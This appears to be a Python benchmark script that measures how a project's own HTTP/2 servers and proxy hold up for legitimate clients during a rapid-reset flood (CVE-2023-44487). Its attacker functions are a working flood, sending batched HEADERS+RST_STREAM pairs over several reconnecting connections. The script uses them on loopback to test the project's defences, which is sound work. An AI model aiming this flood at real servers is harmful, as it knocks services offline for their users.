#!/usr/bin/env python3
"""What a rapid-reset flood takes from legitimate clients (issue 8, finding 5; CVE-2023-44487).

The stack of ``bench_proxy_front.py`` (real ``cloud serve --proxy`` and ``device serve --listen``
processes with one uplink between them). For each target -- the device's direct h2c port and the
cloud's proxy front (h2c; requests go on through the uplink) -- a legitimate client, h2load
``-c 1 -m 1`` posting GetServiceCapabilities for ``--seconds``, is measured alone and then while a
flood runs against the same port, in the same run:

* the flood: ``--attackers`` connections (default 4, as in the issue) from another loopback
  address (127.0.0.2: another source than the legitimate client's 127.0.0.1), each in its own
  thread of a separate process, writing HEADERS+RST_STREAM(CANCEL) pairs in batches of 50 as fast
  as the socket takes them and reading (and dropping) whatever the server answers; when the server
  ends or refuses the connection (GOAWAY ENHANCE_YOUR_CALM after its reset budget; then the
  source's penalty, ``HttpSettings.flood_penalty``) the attacker reconnects at once.

Printed: legitimate calls/s without and with the flood (ratio), failed legitimate requests, the
server processes' CPU during each phase (share of one core), the share of a core the flood itself
took from each server process (its CPU during the flood less the legitimate calls served meanwhile
at their cost measured alone), and the flood's own rate (pairs written, connections opened). The flooder shares the machine's cores with everything else; its
CPU is printed too. Usage: ``python bench/bench_rapid_reset.py [--seconds 8] [--attackers 4]``.
Results: docs/benchmarks.md, "Rapid reset (issue 8)".
"""

from __future__ import annotations

import argparse
import multiprocessing as mp
import re
import socket
import subprocess
import threading
import time
from dataclasses import dataclass

import psutil
from _uplink_bench import machine
from bench_edge import CONTENT_TYPE
from bench_proxy_front import Stack, cpu_seconds, stack
from hpack import Encoder
from hyperframe.frame import HeadersFrame, RstStreamFrame, SettingsFrame

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SOURCE = "127.0.0.2"  # the attackers' address
BATCH = 50
CANCEL = 8


@dataclass
class Legit:
    rate: float
    succeeded: int
    failed: int


def legit(url: str, body: str, seconds: int) -> Legit:
    args = ["h2load", "-D", str(seconds), "--warm-up-time", "1", "-c", "1", "-m", "1", "-d", body,
            "-H", CONTENT_TYPE, url]
    out = subprocess.run(args, check=False, capture_output=True, text=True, timeout=seconds + 60).stdout
    finished = re.search(r"finished in [\d.]+\w*, ([\d.]+) req/s", out)
    requests = re.search(r"requests: \d+ total, \d+ started, \d+ done, (\d+) succeeded, (\d+) failed", out)
    if finished is None or requests is None:
        raise SystemExit(f"cannot read h2load's output ({' '.join(args)}):\n{out}")
    return Legit(float(finished.group(1)), int(requests.group(1)), int(requests.group(2)))


# -- the flood (a separate process) ---------------------------------------------------------------

def _attacker(port: int, path: str, stop: threading.Event, counts: list[int]) -> None:
    """One attacking connection after another: [pairs written, connections opened]."""
    while not stop.is_set():
        try:
            sock = socket.create_connection(("127.0.0.1", port), timeout=5, source_address=(SOURCE, 0))
        except OSError:
            time.sleep(0.01)
            continue
        counts[1] += 1
        threading.Thread(target=_drop_input, args=(sock,), daemon=True).start()
        encoder, stream_id = Encoder(), 1
        try:
            sock.sendall(PREFACE + SettingsFrame(0).serialize())
            while not stop.is_set() and stream_id < 2**31 - 2 * BATCH:
                fields = [(":method", "POST"), (":scheme", "http"), (":authority", "flood"), (":path", path)]
                burst = []
                for _ in range(BATCH):
                    burst.append(HeadersFrame(stream_id, data=encoder.encode(fields),
                                              flags=["END_HEADERS"]).serialize())
                    burst.append(RstStreamFrame(stream_id, error_code=CANCEL).serialize())
                    stream_id += 2
                sock.sendall(b"".join(burst))
                counts[0] += BATCH
        except OSError:
            pass
        finally:
            sock.close()


def _drop_input(sock: socket.socket) -> None:
    try:
        while sock.recv(65536):
            pass
    except OSError:
        pass


def flood_main(conn: object, port: int, path: str, attackers: int) -> None:
    stop = threading.Event()
    counts = [[0, 0] for _ in range(attackers)]
    threads = [threading.Thread(target=_attacker, args=(port, path, stop, c), daemon=True) for c in counts]
    for thread in threads:
        thread.start()
    conn.recv()  # type: ignore[attr-defined]  # the word to stop
    stop.set()
    for thread in threads:
        thread.join(10)
    conn.send((sum(c[0] for c in counts), sum(c[1] for c in counts)))  # type: ignore[attr-defined]


# -- the run --------------------------------------------------------------------------------------

@dataclass
class Phase:
    """One legitimate run, alone or under the flood."""

    legit: Legit
    cpu: dict[str, float]  # server process -> share of one core during the run
    pairs: int = 0  # flood: HEADERS+RST_STREAM pairs written
    connections: int = 0  # flood: connections opened
    flooder_cpu: float = 0.0  # flood: CPU seconds of the flooding process
    span: float = 0.0  # flood: seconds it ran

    def taken(self, alone: Phase) -> dict[str, float]:
        """What the flood itself cost each server process: its CPU during the flood less what the
        legitimate calls served meanwhile cost at their rate measured alone."""
        return {name: share - self.legit.rate * alone.cpu[name] / alone.legit.rate
                for name, share in self.cpu.items()}


def measure(s: Stack, where: str, seconds: int, attackers: int, flooding: bool) -> Phase:
    server = ["device"] if where == "direct" else ["cloud", "device"]
    ctx = mp.get_context("spawn")
    parent, child = ctx.Pipe()
    flood = None
    if flooding:
        path = s.urls[where].split(str(s.ports[where]), 1)[1]
        flood = ctx.Process(target=flood_main, args=(child, s.ports[where], path, attackers), daemon=True)
        flood.start()
        time.sleep(1.0)  # the flood gets going (measurement, not synchronisation)
    before = {name: cpu_seconds(s.procs[name]) for name in server}
    started = time.monotonic()
    result = legit(s.urls[where], str(s.body), seconds)
    took = time.monotonic() - started
    phase = Phase(result, {name: (cpu_seconds(s.procs[name]) - before[name]) / took for name in server})
    if flood is not None:
        phase.flooder_cpu = cpu_seconds(psutil.Process(flood.pid))
        parent.send("stop")
        phase.pairs, phase.connections = parent.recv()
        phase.span = took + 1.0
        flood.join(15)
    return phase


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--seconds", type=int, default=8, help="seconds each legitimate run measures")
    parser.add_argument("--attackers", type=int, default=4, help="attacking connections at a time")
    args = parser.parse_args()
    start = time.monotonic()
    with stack() as s:
        legit(s.urls["direct"], str(s.body), 2)  # warm up both paths
        legit(s.urls["proxy"], str(s.body), 2)
        results = {where: (measure(s, where, args.seconds, args.attackers, False),
                           measure(s, where, args.seconds, args.attackers, True)) for where in ("direct", "proxy")}
    print(f"# rapid reset, legitimate h2load -c 1 -m 1 GetServiceCapabilities for {args.seconds} s, "
          f"{args.attackers} attacking connections -- {machine()}")
    for where, (alone, flood) in results.items():
        a, f = alone.legit, flood.legit
        cpu = " ".join(f"{name} {alone.cpu[name]:.0%} -> {flood.cpu[name]:.0%}" for name in alone.cpu)
        taken = " ".join(f"{name} {share:.0%}" for name, share in flood.taken(alone).items())
        print(f"{where:7} legit {a.rate:8.1f} -> {f.rate:8.1f} calls/s ({f.rate / a.rate:5.2f}x; failed "
              f"{a.failed} -> {f.failed})   server CPU of a core: {cpu}; taken by the flood: {taken}   flood: "
              f"{flood.pairs / flood.span:8.0f} pairs/s, {flood.connections / flood.span:6.0f} connections/s, "
              f"flooder CPU {flood.flooder_cpu / flood.span:.0%}")
    print(f"# total {time.monotonic() - start:.0f} s")


if __name__ == "__main__":
    main()
